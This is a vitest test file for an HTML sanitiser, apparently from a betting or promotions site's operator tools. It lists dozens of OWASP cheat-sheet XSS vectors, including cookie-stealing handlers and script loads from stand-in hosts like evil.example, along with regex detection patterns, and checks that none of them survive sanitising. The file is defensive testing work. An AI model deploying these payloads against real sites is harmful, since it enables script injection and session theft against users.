import { describe, expect, it } from 'vitest';
import { pictureSources, sanitiseHtml, sanitiseLocalisedHtml } from './sanitise-html.ts';

/*
 * Vectors of the OWASP XSS filter evasion cheat sheet and the usual suspects: none may leave a script, an event
 * handler, a javascript: or data: address, a style, or a frame in the HTML the site is served.
 */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<a onmouseover=alert(document.cookie)>xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=https://evil.example/></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div id="x" class="modal" data-x="1" onclick="alert(1)">x</div>',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">ok</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xmp><script>alert(1)</script></xmp>',
];

/** What must not survive: executable markup, handlers, dangerous schemes, styles, frames. */
const FORBIDDEN = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<frame/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<meta/i,
  /<link/i,
  /<base/i,
  /<body/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /\sstyle\s*=/i,
  /\sclass\s*=/i,
  /\sbackground\s*=/i,
  /\ssrcdoc\s*=/i,
  /href="\/\//i,
];

describe('the operator HTML sanitiser', () => {
  it.each(VECTORS)('leaves nothing dangerous of %s', (vector) => {
    const clean = sanitiseHtml(vector);
    for (const pattern of FORBIDDEN) expect(clean, `${pattern} in ${clean}`).not.toMatch(pattern);
    // Sanitising again changes nothing: what is stored is what is served.
    expect(sanitiseHtml(clean)).toBe(clean);
  });

  it('keeps the formatting operators use: headings, lists, tables, links and pictures of the media store', () => {
    const html =
      '<h2>Weekly reload</h2><p>Get <strong>50%</strong> up to <em>₹5,000</em>.</p><ul><li>One</li></ul>' +
      '<table><tr><td colspan="2">x</td></tr></table><a href="/discount">Promotions</a> <a href="faq/3">Limits</a>' +
      '<img src="/media/12" alt="Cover">';
    const clean = sanitiseHtml(html);
    expect(clean).toContain('<h2>Weekly reload</h2>');
    expect(clean).toContain('<strong>50%</strong>');
    expect(clean).toContain('<td colspan="2">x</td>');
    expect(clean).toContain('<a href="/discount">Promotions</a>');
    expect(clean).toContain('<a href="faq/3">Limits</a>');
    expect(clean).toContain('<img src="/media/12" alt="Cover" loading="lazy" />');
  });

  it('makes links leaving the site unable to reach back, and drops pictures from elsewhere than https or the store', () => {
    expect(sanitiseHtml('<a href="https://help.example" target="_blank">Help</a>')).toBe(
      '<a href="https://help.example" target="_blank" rel="noopener noreferrer">Help</a>',
    );
    expect(sanitiseHtml('<a href="https://help.example" rel="opener">Help</a>')).toBe(
      '<a href="https://help.example" rel="noopener noreferrer">Help</a>',
    );
    expect(sanitiseHtml('<p><img src="http://plain.example/a.png">x</p>')).toBe('<p>x</p>');
    expect(sanitiseHtml('<p><img src="/media/1/../../api">x</p>')).toBe('<p>x</p>');
  });

  it('sanitises each language and drops the ones left empty', () => {
    expect(sanitiseLocalisedHtml({ en_US: '<p onclick="x()">Hi</p>', th_TH: '<script>x</script>' })).toEqual({
      en_US: '<p>Hi</p>',
    });
  });

  it('keeps a picture only from the media store or a listed host: an outside one would tell a third party who reads', () => {
    const tracker = '<p><img src="https://evil.example/t.png" alt="">Deposit now</p>';
    expect(sanitiseHtml(tracker)).toBe('<p>Deposit now</p>');
    expect(sanitiseHtml(tracker, { hosts: ['cdn.partner.example'] })).toBe('<p>Deposit now</p>');
    const listed = { hosts: ['cdn.partner.example', 'img.partner.example:8443'] };
    expect(sanitiseHtml('<img src="https://CDN.partner.example/a.png">', listed)).toBe(
      '<img src="https://CDN.partner.example/a.png" loading="lazy" />',
    );
    expect(sanitiseHtml('<img src="https://img.partner.example:8443/a.png">', listed)).toContain('<img');
    for (const elsewhere of [
      'https://img.partner.example/a.png',
      'https://cdn.partner.example.evil.example/a.png',
      'https://cdn.partner.example@evil.example/a.png',
      'https://user:pw@cdn.partner.example/a.png',
      'http://cdn.partner.example/a.png',
      '//cdn.partner.example/a.png',
      'https://evil.example/?https://cdn.partner.example/a.png',
    ]) {
      expect(sanitiseHtml(`<img src="${elsewhere}">`, listed), elsewhere).toBe('');
    }
    // A picture stored from its outside address is pointed at the store.
    const stored = new Map([['https://evil.example/t.png', '/media/42']]);
    expect(sanitiseHtml(tracker, { stored })).toBe('<p><img src="/media/42" alt="" loading="lazy" />Deposit now</p>');
  });

  it.each([
    '<img srcset="https://evil.example/a.png 1x" src="/media/1">',
    '<picture><source srcset="https://evil.example/a.png"><img src="/media/1"></picture>',
    '<img src="/media/1" lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/b.png">',
    '<div style="background:url(https://evil.example/a.png)">x</div>',
    '<p style="background-image: url(&quot;https://evil.example/a.png&quot;)">x</p>',
    '<style>p{background:url(https://evil.example/a.png)}</style><p>x</p>',
    '<style>@import url(https://evil.example/a.css);</style>',
    '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">x</td></tr></table>',
    '<body background="https://evil.example/a.png">x</body>',
    '<video poster="https://evil.example/a.png"><source src="https://evil.example/a.mp4"></video>',
    '<audio src="https://evil.example/a.mp3"></audio>',
    '<input type="image" src="https://evil.example/a.png">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<link rel="prefetch" href="https://evil.example/a">',
    '<link rel="icon" href="https://evil.example/favicon.ico">',
    '<svg><image href="https://evil.example/a.png"></image></svg>',
    '<object data="https://evil.example/a.swf"></object>',
    '<embed src="https://evil.example/a.swf">',
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="/discount" ping="https://evil.example/ping">x</a>',
    '<blockquote cite="https://evil.example/q">x</blockquote>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<script src="https://evil.example/a.js"></script>',
    '<img src="https://evil.example/a.png" onerror="this.src=\'https://evil.example/b.png\'">',
    '<p><span style="content:url(https://evil.example/a.png)">x</span></p>',
  ])('leaves nothing that makes the browser fetch from another host in %s', (vector) => {
    const clean = sanitiseHtml(vector, { hosts: ['cdn.partner.example'] });
    expect(clean).not.toContain('evil.example');
  });

  it('reads the picture addresses of some HTML as it will sanitise them', () => {
    expect(
      pictureSources(
        '<p><img src=" https://a.example/1.png "><img src="/media/3"><img src="https://b.example/2.png?x=1&amp;y=2"></p>',
      ),
    ).toEqual(['https://a.example/1.png', '/media/3', 'https://b.example/2.png?x=1&y=2']);
  });
});
